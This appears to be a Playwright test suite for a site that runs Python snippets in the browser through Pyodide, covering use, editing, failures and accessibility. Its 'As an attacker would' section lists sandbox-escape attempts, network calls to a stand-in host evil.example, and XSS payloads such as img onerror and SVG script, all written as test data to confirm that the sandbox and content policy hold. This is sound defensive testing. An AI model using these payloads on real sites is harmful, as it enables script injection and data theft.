@@ -1,0 +1,520 @@
+"""Code that runs in its page, in a real Chromium: as a reader uses it, as an attacker would, and where it cannot run."""
+
+import json
+import subprocess
+import sys
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import nbformat
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+
+from kb.snippets.compare import compare
+from kb.snippets.find import find
+from tests.browser.conftest import build, until, watch
+from tests.catalogs import ROOT, TOY
+
+PLACE = "techniques/toy-pruning/"
+RUN, STOP, EDIT, RESET = (f"kb-run button.kb-{name}" for name in ("run", "stop", "edit", "reset"))
+AREA, OUTPUT, STATUS = ".kb-editor textarea", ".kb-shown .kb-output code", "kb-run [role=status]"
+LOADS = 90_000
+SNIPPETS = find(ROOT / "catalog")
+
+
+@pytest.fixture(scope="module")
+def reader(chromium, toy_site, runtime):
+    """One page of the toy site for many runs: Python is loaded once."""
+    context = chromium.new_context(viewport={"width": 1280, "height": 900})
+    page = context.new_page()
+    watch(page)
+    page.goto(toy_site + PLACE)
+    yield page
+    context.close()
+
+
+@pytest.fixture
+def fresh(reader):
+    """The same page as it was at first, but with Python at hand."""
+    reader.click(RESET)
+    reader.troubles.clear()
+    return reader
+
+
+def state(page):
+    return page.get_attribute("kb-run", "data-state")
+
+
+def settled(page, timeout=LOADS):
+    page.wait_for_selector("kb-run:not([data-state=loading]):not([data-state=running])", timeout=timeout)
+    return state(page)
+
+
+def type_in(page, code):
+    if not page.locator(AREA).count():
+        page.click(EDIT)
+    page.fill(AREA, code)
+
+
+def run(page, code=None):
+    """Run ``code``, or what stands there; gives the state in which it ends."""
+    if code is not None:
+        type_in(page, code)
+    page.click(RUN)
+    return settled(page)
+
+
+def output(page):
+    return page.inner_text(OUTPUT).rstrip("\n")
+
+
+def started(page):
+    page.wait_for_selector("kb-run[data-state=running]", timeout=LOADS)
+
+
+def workers(page):
+    page.wait_for_timeout(500)
+    return len(page.workers)
+
+
+RECORDED = (TOY / PLACE / "output.txt").read_text(encoding="utf-8").strip("\n")
+
+
+# As a reader uses it
+
+def test_before_anything_is_pressed_all_is_there_and_nothing_is_loaded(page, toy_site, runtime):
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(toy_site + PLACE)
+    page.wait_for_load_state("networkidle")
+    assert output(page) == RECORDED
+    assert page.evaluate("document.querySelector('.kb-figure img').naturalWidth") > 0
+    assert page.inner_text(RUN) == "Run 运行 11 MB, once 仅首次"
+    assert page.locator(STOP).is_disabled() and page.inner_text(STATUS) == ""
+    assert not any("/runtime/" in url or "worker" in url or "lab.zip" in url for url in asked)
+    assert page.troubles == []
+
+
+def test_run_prints_what_is_recorded_draws_and_tells_the_time(fresh):
+    before = fresh.get_attribute(".kb-figure img", "src")
+    assert run(fresh) == "same"
+    assert compare(RECORDED, output(fresh)) == []
+    assert "as recorded" in fresh.inner_text(STATUS) and "与记录一致" in fresh.inner_text(STATUS)
+    assert fresh.get_attribute(".kb-figure img", "src").startswith("blob:") and before == "figure.svg"
+    assert fresh.get_attribute(".kb-figure img", "alt").startswith("Small toys need little room. With three of ten toys")
+    assert fresh.evaluate("document.querySelector('.kb-figure img').decode().then(() => document.querySelector('.kb-figure img').naturalWidth)") > 0
+    assert fresh.inner_text(".kb-time").endswith(" s") and "output of your run" in fresh.inner_text(".kb-shown .kb-caption")
+    assert fresh.inner_text(RUN) == "Run 运行"
+    assert fresh.troubles == []
+
+
+def test_edited_code_runs_and_what_differs_is_said(fresh):
+    assert run(fresh, "print('toys 7')") == "other"
+    assert output(fresh) == "toys 7"
+    fresh.click(".kb-differences summary")
+    assert fresh.locator(".kb-differences li").all_text_contents()[0] == "line 1: `toys 7` found, `toys     room needed` expected"
+
+
+def test_reset_brings_back_code_output_and_figure(fresh):
+    run(fresh, "from kb.lab import bars, show\nprint(1)\nshow(bars({'a': 1.0}, title='Other', y='y'))")
+    assert fresh.get_attribute(".kb-figure img", "alt") == "Other"
+    fresh.click(RESET)
+    assert output(fresh) == RECORDED and fresh.locator(AREA).count() == 0
+    assert fresh.get_attribute(".kb-figure img", "src").endswith("/figure.svg") and "Small toys" in fresh.get_attribute(".kb-figure img", "alt")
+    assert fresh.locator(".kb-code pre").first.is_visible() and "recorded output" in fresh.inner_text(".kb-shown .kb-caption")
+    assert run(fresh) == "same"
+
+
+def test_stop_ends_an_endless_loop_and_the_next_run_works(fresh):
+    type_in(fresh, "print('on', flush=True)\nwhile True: pass")
+    fresh.click(RUN)
+    until(fresh, f"() => document.querySelector('{OUTPUT}').textContent === 'on\\n'")
+    assert fresh.locator(RUN).is_disabled()
+    begun = time.monotonic()
+    fresh.click(STOP)
+    assert state(fresh) == "stopped" and time.monotonic() - begun < 2
+    assert run(fresh, "print('again')") == "other" and output(fresh) == "again"
+
+
+def test_stop_while_python_loads(page, toy_site, runtime):
+    page.goto(toy_site + PLACE)
+    page.click(RUN)
+    assert state(page) == "loading"
+    page.click(STOP)
+    assert state(page) == "stopped" and workers(page) == 0
+    assert run(page) == "same"
+
+
+def test_lines_appear_while_it_runs(fresh):
+    type_in(fresh, "import time\nfor i in range(3):\n    print('line', i)\n    time.sleep(0.7)")
+    fresh.click(RUN)
+    seen = []
+    for count in range(1, 4):
+        until(fresh, f"() => document.querySelector('{OUTPUT}').textContent.split('\\n').length > {count}")
+        seen.append((output(fresh).count("line"), state(fresh)))
+    assert seen == [(1, "running"), (2, "running"), (3, "running")]
+    settled(fresh)
+
+
+def test_an_error_is_shown_at_the_reader_s_line(fresh):
+    assert run(fresh, "x = 1\n\ndef f():\n    return x / 0\n\nf()\n") == "failed"
+    assert output(fresh).splitlines()[0] == "Traceback (most recent call last):"
+    assert output(fresh).splitlines()[-1] == "ZeroDivisionError: division by zero"
+    assert "at line 4" in fresh.inner_text(STATUS) and "第 4 行" in fresh.inner_text(STATUS)
+    assert fresh.inner_text(".kb-wrong") == "4" and fresh.locator(".kb-strip").is_visible()
+    fresh.locator(AREA).press("End")
+    fresh.keyboard.type(" ")
+    assert fresh.locator(".kb-wrong").count() == 0 and fresh.locator(".kb-strip").is_hidden()
+
+
+def test_a_failure_deep_in_the_lab_is_at_the_reader_s_line(fresh):
+    assert run(fresh, "from kb.lab import dense_net\n\ndense_net(64, 10)(None)\n") == "failed"
+    assert fresh.inner_text(".kb-wrong") == "3"
+
+
+def test_what_is_no_python_is_marked_too(fresh):
+    assert run(fresh, "print('a')\nfor in x:\n") == "failed"
+    assert fresh.inner_text(".kb-wrong") == "2" and "SyntaxError" in output(fresh)
+
+
+def test_each_run_begins_anew(fresh):
+    run(fresh, "import kb.lab\nsecret = 1\nkb.lab.accuracy = None")
+    run(fresh, "import kb.lab\nprint('secret' in globals(), callable(kb.lab.accuracy))")
+    assert output(fresh) == "False True"
+
+
+def test_numpy_is_there_and_is_the_one_that_was_promised(fresh):
+    run(fresh, "import sys, numpy\nprint(numpy.__version__, sys.version_info[:2])")
+    assert output(fresh) == f"{fresh.get_attribute('kb-run', 'data-numpy')} (3, 14)"
+
+
+def test_two_pages_in_a_row(page, site, runtime):
+    for snippet in SNIPPETS[:2]:
+        page.goto(f"{site}techniques/{snippet.id}/")
+        assert run(page) == "same"
+    assert page.troubles == []
+
+
+def test_a_page_that_is_swapped_in_without_loading_works_and_the_old_run_ends(page, toy_site, runtime):
+    page.goto(toy_site + PLACE)
+    type_in(page, "while True: pass")
+    page.click(RUN)
+    started(page)
+    page.evaluate("""async () => {
+        const page = new DOMParser().parseFromString(await (await fetch(location.href)).text(), "text/html");
+        document.querySelector("article").replaceWith(page.querySelector("article"));
+    }""")
+    assert workers(page) == 0
+    assert run(page) == "same" and page.troubles == []
+
+
+# The editor
+
+def test_ctrl_enter_runs_and_escape_leaves(fresh):
+    type_in(fresh, "print('keys')")
+    fresh.locator(AREA).press("Control+Enter")
+    assert settled(fresh) == "other" and output(fresh) == "keys"
+    fresh.focus(AREA)
+    fresh.keyboard.press("Escape")
+    assert fresh.evaluate("document.activeElement.classList.contains('kb-edit')")
+
+
+KEYS = {
+    "a tab indents": ("", ["Tab", "x"], "    x"),
+    "enter keeps the indent": ("    a", ["Enter", "b"], "    a\n    b"),
+    "a colon adds one": ("if a:", ["Enter", "b"], "if a:\n    b"),
+    "shift and tab take it back": ("    a", ["Shift+Tab"], "a"),
+    "undo": ("a", ["Tab", "Control+z"], "a"),
+    "a tab indents all that is selected": ("a\nb", ["Control+a", "Tab"], "    a\n    b"),
+}
+
+
+@pytest.mark.parametrize(("before", "keys", "after"), KEYS.values(), ids=KEYS.keys())
+def test_keys_in_the_editor(fresh, before, keys, after):
+    type_in(fresh, before)
+    fresh.focus(AREA)
+    fresh.keyboard.press("Control+End")
+    for key in keys:
+        fresh.keyboard.press(key)
+    assert fresh.input_value(AREA) == after
+
+
+def test_the_editor_holds_the_whole_code_and_numbers_its_lines(fresh):
+    fresh.click(EDIT)
+    assert fresh.input_value(AREA) == (TOY / PLACE / "snippet.py").read_text(encoding="utf-8").rstrip("\n")
+    assert fresh.locator(".kb-numbers span").count() == fresh.input_value(AREA).count("\n") + 1
+    assert fresh.evaluate("document.activeElement.tagName") == "TEXTAREA"
+
+
+# As an attacker would
+
+HOSTILE = {
+    "the page": ("import js\njs.document.title = 'pwned'", "AttributeError: document"),
+    "the network": ("import js\njs.fetch('https://evil.example/x')", "AttributeError: fetch"),
+    "the network by Pyodide": ("from pyodide.http import open_url\nopen_url('https://evil.example/x')", "NameError: name 'XMLHttpRequest' is not defined"),
+    "a socket": ("import socket\nsocket.create_connection(('203.0.113.1', 80), 2)", "OSError: "),
+    "JavaScript": ("from pyodide.code import run_js\nrun_js('postMessage(1)')", "ImportError: cannot import name 'eval' from 'js'"),
+    "a function made of text": ("import pyodide_js\npyodide_js.runPython.constructor('return this')()", "pyodide.ffi.JsException: EvalError: "),
+    "messages": ("import js\njs.postMessage('{}')", "AttributeError: postMessage"),
+    "a worker of its own": ("import js\njs.Worker.new('x')", "AttributeError: Worker"),
+    "storage": ("import js\njs.indexedDB.open('x')", "AttributeError: indexedDB"),
+}
+
+
+@pytest.mark.parametrize(("code", "said"), HOSTILE.values(), ids=HOSTILE.keys())
+def test_a_hostile_edit_cannot_reach(fresh, code, said):
+    assert run(fresh, code) == "failed"
+    assert output(fresh).splitlines()[-1].startswith(said)
+    assert fresh.title() != "pwned" and fresh.troubles == []
+
+
+@pytest.fixture
+def stranger():
+    """Another origin on loopback that would hand out scripts to everybody; gives its address and the paths that were asked for."""
+    asked = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/javascript")
+            self.end_headers()
+            self.wfile.write(b"export default 1;")
+
+        def log_message(self, *words):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}/", asked
+    server.shutdown()
+    server.server_close()
+
+
+def test_packages_of_another_origin_are_not_even_asked_for(fresh, stranger):
+    address, asked = stranger
+    run(fresh, f"import pyodide_js\npyodide_js.loadPackage('{address}evil-1-py3-none-any.whl')")
+    fresh.wait_for_timeout(500)
+    assert asked == []
+
+
+def test_the_policy_holds_in_the_worker_even_for_its_own_scripts(fresh, stranger):
+    """What the worker could do if all that was taken from it came back: nothing beyond our own origin, nothing made of text."""
+    address, asked = stranger
+    run(fresh, "print(1)")
+    worker = fresh.workers[0]
+    names = ["fetch", "XMLHttpRequest", "WebSocket", "indexedDB", "Worker", "postMessage", "navigator"]
+    assert worker.evaluate("names => names.map(name => typeof self[name])", names) == ["undefined"] * len(names)
+    assert worker.evaluate("address => import(address).then(() => 'loaded', () => 'refused')", address + "x.mjs") == "refused"
+    worker.evaluate("() => void setTimeout('self.reached = 1', 0)")
+    fresh.wait_for_timeout(300)
+    assert worker.evaluate("typeof self.reached") == "undefined"
+    assert asked == []
+
+
+def test_a_bare_worker_of_the_page_inherits_the_policy(page, toy_site, stranger):
+    address, asked = stranger
+    page.goto(toy_site)
+    page.evaluate("() => void new Worker(URL.createObjectURL(new Blob(['self.here = 1'], {type: 'text/javascript'})), {type: 'module'})")
+    page.wait_for_timeout(500)
+    assert page.workers[0].evaluate("address => fetch(address).then(() => 'loaded', () => 'refused')", address + "x") == "refused"
+    assert asked == []
+
+
+def test_an_edit_that_breaks_its_own_python_is_stopped_and_run_works_again(fresh):
+    run(fresh, "import sys, builtins\nsys.modules.clear()\nbuiltins.__dict__.clear()")
+    assert state(fresh) in ("failed", "crashed")
+    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
+
+
+FORGED = {
+    "no type": "{}",
+    "markup as text": "{type: 'text', stream: 'out', text: '<img src=x onerror=document.title=1>'}",
+    "no text": "{type: 'text', text: {toString: 1}}",
+    "a picture with a script": "{type: 'figure', svg: '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title=1\"><script>document.title=1</script></svg>'}",
+    "no picture": "{type: 'figure', svg: 5}",
+    "wrong numbers": "{type: 'done', seconds: 'x', line: -1, problem: '<b>x</b>'}",
+    "wrong differences": "{type: 'done', seconds: 1, differences: [{}, '<b>x</b>']}",
+    "an unknown type": "{type: 'navigate', url: 'https://evil.example/'}",
+    "a long line": "{type: 'text', text: 'x'.repeat(5000000)}",
+}
+
+
+@pytest.mark.parametrize("message", FORGED.values(), ids=FORGED.keys())
+def test_forged_messages_do_no_harm(fresh, message):
+    """They are put where the worker's own come in; nothing that runs in the worker could send them (see above)."""
+    title = fresh.title()
+    type_in(fresh, "import time\ntime.sleep(0.5)\nprint('end')")
+    fresh.click(RUN)
+    started(fresh)
+    fresh.evaluate(f"document.querySelector('kb-run').hear({message})")
+    fresh.wait_for_timeout(200)
+    assert fresh.title() == title and fresh.locator(".kb-shown b, .kb-output img").count() == 0
+    assert len(output(fresh)) <= 100_000
+    if fresh.locator(STOP).is_enabled():
+        fresh.click(STOP)
+    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
+    assert fresh.troubles == []
+
+
+def test_code_in_the_address_is_not_run(page, toy_site, runtime):
+    page.goto(f"{toy_site}{PLACE}?code=print(1)&run=1#code=print(1)")
+    page.wait_for_load_state("networkidle")
+    assert workers(page) == 0 and "print(1)" not in page.inner_text(".kb-code")
+    assert page.locator(AREA).count() == 0
+
+
+def test_an_endless_printer_is_stopped_and_the_page_stays_alive(fresh):
+    assert run(fresh, "while True: print('x' * 50)") == "flood"
+    assert "printed too much" in fresh.inner_text(STATUS) and len(output(fresh)) <= 100_000
+    begun = time.monotonic()
+    fresh.evaluate("1 + 1")
+    assert time.monotonic() - begun < 1
+
+
+def test_memory_without_end_is_an_error_not_a_crash_of_the_page(fresh):
+    assert run(fresh, "x = []\nwhile True: x.append(bytearray(200_000_000))") in ("failed", "crashed")
+    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
+
+
+@pytest.mark.parametrize("limit", [1_000, 100_000])
+def test_recursion_without_end_is_survived(fresh, limit):
+    assert run(fresh, f"import sys\nsys.setrecursionlimit({limit})\ndef f(): f()\nf()") in ("failed", "crashed")
+    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
+
+
+@pytest.mark.parametrize("place", ["", PLACE, "topics/cutting/", "browse/", "map/", "status/", "404.html"])
+def test_every_page_has_the_policy_and_the_worker_inherits_it(page, toy_site, place):
+    page.goto(toy_site + place)
+    found = page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content")
+    assert "default-src 'none'" in found and "'unsafe-eval'" not in found and "'unsafe-inline'" not in found and "http" not in found.replace("http-equiv", "")
+    page.evaluate("() => { const script = document.createElement('script'); script.textContent = 'document.title = \"pwned\"'; document.body.append(script); }")
+    assert page.title() != "pwned"
+
+
+# Where it cannot run
+
+def test_a_site_without_the_runtime_says_so_and_shows_everything(page, tmp_path, serve):
+    build(TOY, tmp_path / "site", "--strict", KB_RUNTIME=str(tmp_path / "none"))
+    page.goto(serve(tmp_path / "site") + PLACE)
+    assert "cannot be run here" in page.inner_text(".kb-norun") and page.locator("kb-run, .kb-bar button").count() == 0
+    assert output(page) == RECORDED and "import numpy" in page.inner_text(".kb-code")
+    assert not (tmp_path / "site" / "assets" / "kb" / "lab.zip").exists()
+    assert page.troubles == []
+
+
+@pytest.mark.parametrize("lost", ["pyodide.mjs", "pyodide.asm.mjs", "pyodide.asm.wasm.packed", "python_stdlib.zip", "numpy-*.whl", "lab.zip", "worker.js"])
+def test_a_missing_file_is_said_and_a_second_try_works(page, toy_site, runtime, lost):
+    page.context.route(f"**/{lost}", lambda route: route.fulfill(status=404, body=""))
+    page.goto(toy_site + PLACE)
+    assert run(page) == "missing"
+    assert "could not be loaded" in page.inner_text(STATUS) and page.locator(RUN).is_enabled()
+    page.context.unroute(f"**/{lost}")
+    assert run(page) == "same"
+
+
+@pytest.mark.parametrize("lacking", ["WebAssembly", "Worker", "DecompressionStream"])
+def test_a_browser_that_cannot_run_python_says_so(page, toy_site, runtime, lacking):
+    page.add_init_script(f"delete window.{lacking}")
+    page.goto(toy_site + PLACE)
+    assert "cannot run Python" in page.inner_text(STATUS) and "无法运行" in page.inner_text(STATUS)
+    assert page.locator("kb-run button").count() == 0 and output(page) == RECORDED
+
+
+def test_without_javascript_all_results_are_there(chromium, toy_site):
+    context = chromium.new_context(java_script_enabled=False)
+    page = context.new_page()
+    page.goto(toy_site + PLACE)
+    assert output(page) == RECORDED and page.locator("kb-run button").count() == 0
+    assert page.locator(".kb-figure img").is_visible() and page.locator("a[href='toy-pruning.ipynb']").is_visible()
+    context.close()
+
+
+# How it looks and reads
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 360])
+def test_axe_finds_nothing_before_while_editing_and_after_an_error(fresh, width, scheme):
+    fresh.set_viewport_size({"width": width, "height": 800})
+    fresh.emulate_media(color_scheme=scheme)
+    fresh.reload()
+    found = []
+    for act in (lambda: None, lambda: run(fresh), lambda: run(fresh, "print(1)\n1 / 0"), lambda: fresh.click(RESET)):
+        act()
+        fresh.evaluate("scrollTo(0, 0)")
+        fresh.wait_for_timeout(600)
+        found += [(one["id"], [node["target"] for node in one["nodes"]][:3]) for one in Axe().run(fresh).response["violations"]]
+        assert fresh.evaluate("document.documentElement.scrollWidth") <= width
+    fresh.set_viewport_size({"width": 1280, "height": 900})
+    assert found == []
+
+
+def test_the_figure_follows_the_switch_of_the_theme(page, toy_site):
+    page.emulate_media(color_scheme="light")
+    page.goto(toy_site + PLACE)
+    image = page.locator(".kb-figure img")
+    image.evaluate("image => image.decode()")
+    light = image.screenshot()
+    page.locator("label[title='Switch to dark mode']").click()
+    page.wait_for_timeout(500)
+    assert page.evaluate("getComputedStyle(document.querySelector('.kb-figure img')).colorScheme") == "dark"
+    assert image.screenshot() != light
+
+
+def test_topic_cards_show_the_figures(page, toy_site):
+    page.goto(f"{toy_site}topics/cutting/")
+    image = page.locator("ul.cards img")
+    assert image.count() == 1 and image.get_attribute("loading") == "lazy" and image.get_attribute("alt").startswith("Small toys need little room")
+    image.scroll_into_view_if_needed()
+    image.evaluate("image => image.decode()")
+    assert image.evaluate("image => image.naturalWidth") > 0
+
+
+def test_with_todays_libraries_code_and_output_are_shown(page, toy_site):
+    page.goto(toy_site + PLACE)
+    assert page.locator("h2", has_text="With today's libraries").is_visible()
+    assert "import json" in page.inner_text(".kb-code >> nth=1") and 'json {"toys": [3, 5, 8]}' in page.inner_text(".kb-output >> nth=1")
+
+
+def test_downloads_are_what_they_say_and_the_notebook_runs(page, toy_site, tmp_path):
+    page.goto(toy_site + PLACE)
+    files = {link.get_attribute("href"): page.request.get(toy_site + PLACE + link.get_attribute("href")).text() for link in page.locator(".kb-downloads a").all()}
+    assert set(files) == {"toy-pruning.ipynb", "snippet.py", "torch.py"}
+    assert files["snippet.py"] == (TOY / PLACE / "snippet.py").read_text(encoding="utf-8")
+    book = nbformat.reads(files["toy-pruning.ipynb"], as_version=4)
+    nbformat.validate(book)
+    script = tmp_path / "cells.py"
+    script.write_text("\n".join(cell.source for cell in book.cells if cell.cell_type == "code"), encoding="utf-8")
+    done = subprocess.run([sys.executable, "-I", str(script)], capture_output=True, text=True, timeout=60, check=True)
+    assert done.stdout.strip("\n") == RECORDED
+
+
+# Every snippet of the catalogue
+
+@pytest.fixture(scope="module")
+def bench(chromium, site, runtime):
+    """One page of the real site in which every snippet runs, one after the other."""
+    context = chromium.new_context(viewport={"width": 1280, "height": 900})
+    page = context.new_page()
+    watch(page)
+    page.goto(f"{site}techniques/{SNIPPETS[0].id}/")
+    yield page
+    context.close()
+
+
+@pytest.mark.parametrize("snippet", SNIPPETS, ids=[snippet.id for snippet in SNIPPETS])
+def test_a_snippet_prints_in_the_page_what_is_recorded(bench, snippet):
+    shown = bench.get_attribute(".kb-figure img", "src")
+    assert run(bench, snippet.path.read_text(encoding="utf-8")) in ("same", "other"), output(bench)
+    assert compare(snippet.output.read_text(encoding="utf-8").strip("\n"), output(bench)) == []
+    assert bench.get_attribute(".kb-figure img", "src") != shown
+    assert bench.troubles == []
+
+
+@pytest.mark.parametrize("snippet", SNIPPETS, ids=[snippet.id for snippet in SNIPPETS])
+def test_the_page_of_a_technique_holds_its_own_code_whole(page, site, snippet):
+    page.goto(f"{site}techniques/{snippet.id}/")
+    assert page.evaluate("document.querySelector('.kb-code code').textContent").strip("\n") == snippet.path.read_text(encoding="utf-8").strip("\n")
+    assert json.loads(page.request.get(f"{site}techniques/{snippet.id}/{snippet.id}.ipynb").text())["nbformat"] == 4
